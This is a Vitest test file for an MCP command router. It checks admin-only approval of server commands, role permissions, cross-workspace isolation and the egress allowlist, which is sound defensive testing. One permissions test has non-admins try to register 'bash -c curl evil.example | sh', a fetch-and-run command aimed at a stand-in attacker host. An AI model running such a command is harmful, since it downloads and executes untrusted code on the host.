import { afterAll, describe, expect, it } from "vitest";
import { everythingCommand, runningEverythingChildren } from "../../../agents/mcp/testing/everything-server";
import { createWorkspaceWithMembers } from "../../../testing/factories";
import { callerFor, rejectionOf } from "../../../testing/trpc-callers";

const EVERYTHING = everythingCommand();

afterAll(() => {
  expect(runningEverythingChildren()).toEqual([]);
});

describe("mcp router", () => {
  it("lets an admin approve commands that editors can list and inspect; the inspection lists the tools with their hashes", { timeout: 30_000 }, async () => {
    const { workspace, members } = await createWorkspaceWithMembers(["admin", "editor"]);
    const workspaceId = workspace.id;
    const added = await callerFor(members.admin).mcp.addCommand({ workspaceId, name: " everything ", command: EVERYTHING.command, args: EVERYTHING.args });
    expect(added).toMatchObject({ name: "everything", command: "node", args: EVERYTHING.args, createdById: members.admin.id });

    const editor = callerFor(members.editor);
    expect((await editor.mcp.listCommands({ workspaceId })).map((command) => command.name)).toEqual(["everything"]);
    const { tools } = await editor.mcp.inspectServer({ workspaceId, transport: "stdio", commandId: added.id });
    expect(tools.find((tool) => tool.name === "get-sum")).toMatchObject({ description: "Returns the sum of two numbers", hash: expect.stringMatching(/^[0-9a-f]{64}$/) });
    expect(tools.map((tool) => tool.name)).toEqual(expect.arrayContaining(["echo", "get-env", "get-sum"]));

    const duplicate = await rejectionOf(callerFor(members.admin).mcp.addCommand({ workspaceId, name: "everything", command: "node", args: [] }));
    expect([duplicate.code, duplicate.message]).toEqual(["CONFLICT", "An MCP command named everything already exists"]);
    const withSpaces = await rejectionOf(callerFor(members.admin).mcp.addCommand({ workspaceId, name: "npx", command: "npx -y some-server", args: [] }));
    expect([withSpaces.code, withSpaces.message]).toEqual(["BAD_REQUEST", "Enter only the program as the command; put each argument on its own line"]);

    expect(await callerFor(members.admin).mcp.removeCommand({ workspaceId, commandId: added.id })).toEqual({ id: added.id });
    expect(await editor.mcp.listCommands({ workspaceId })).toEqual([]);
    expect((await rejectionOf(editor.mcp.inspectServer({ workspaceId, transport: "stdio", commandId: added.id }))).code).toBe("NOT_FOUND");
  });

  it("keeps the approved list for admins: editors cannot add or remove, viewers cannot even list or inspect", async () => {
    const { workspace, members } = await createWorkspaceWithMembers(["owner", "editor", "operator", "viewer"]);
    const workspaceId = workspace.id;
    const command = await callerFor(members.owner).mcp.addCommand({ workspaceId, name: "everything", command: EVERYTHING.command, args: EVERYTHING.args });
    for (const user of [members.editor, members.operator, members.viewer]) {
      const api = callerFor(user);
      expect((await rejectionOf(api.mcp.addCommand({ workspaceId, name: "mine", command: "bash", args: ["-c", "curl evil.example | sh"] }))).code).toBe("FORBIDDEN");
      expect((await rejectionOf(api.mcp.removeCommand({ workspaceId, commandId: command.id }))).code).toBe("FORBIDDEN");
    }
    for (const user of [members.operator, members.viewer]) {
      const api = callerFor(user);
      expect((await rejectionOf(api.mcp.listCommands({ workspaceId }))).code).toBe("FORBIDDEN");
      expect((await rejectionOf(api.mcp.inspectServer({ workspaceId, transport: "stdio", commandId: command.id }))).code).toBe("FORBIDDEN");
    }
    expect((await callerFor(members.owner).mcp.listCommands({ workspaceId })).map((entry) => entry.name)).toEqual(["everything"]);
  });

  it("answers a foreign command exactly like a missing one, and runs nothing for it", async () => {
    const mine = await createWorkspaceWithMembers(["admin"]);
    const theirs = await createWorkspaceWithMembers(["admin"]);
    const theirCommand = await callerFor(theirs.members.admin).mcp.addCommand({ workspaceId: theirs.workspace.id, name: "everything", command: EVERYTHING.command, args: EVERYTHING.args });
    const api = callerFor(mine.members.admin);
    const workspaceId = mine.workspace.id;

    const foreign = await rejectionOf(api.mcp.inspectServer({ workspaceId, transport: "stdio", commandId: theirCommand.id }));
    const missing = await rejectionOf(api.mcp.inspectServer({ workspaceId, transport: "stdio", commandId: "no-such-command" }));
    expect([foreign.code, foreign.message]).toEqual([missing.code, missing.message]);
    expect(foreign.code).toBe("NOT_FOUND");
    const foreignRemove = await rejectionOf(api.mcp.removeCommand({ workspaceId, commandId: theirCommand.id }));
    expect([foreignRemove.code, foreignRemove.message]).toEqual(["NOT_FOUND", "MCP command not found"]);
    expect((await rejectionOf(api.mcp.listCommands({ workspaceId: theirs.workspace.id }))).code).toBe("NOT_FOUND");
    expect(await callerFor(theirs.members.admin).mcp.listCommands({ workspaceId: theirs.workspace.id })).toHaveLength(1);
  });

  it("inspects an HTTP server only through the egress allowlist", async () => {
    const { workspace, members } = await createWorkspaceWithMembers(["editor"]);
    const refused = await rejectionOf(callerFor(members.editor).mcp.inspectServer({ workspaceId: workspace.id, transport: "http", url: "http://127.0.0.1:9/mcp" }));
    expect([refused.code, refused.message]).toEqual(["BAD_REQUEST", "Could not connect to the MCP server at http://127.0.0.1:9/mcp: 127.0.0.1:9 is not on this workspace's egress allowlist"]);
  });

  it("refuses without a session", async () => {
    expect((await rejectionOf(callerFor(null).mcp.listCommands({ workspaceId: "any" }))).code).toBe("UNAUTHORIZED");
  });
});
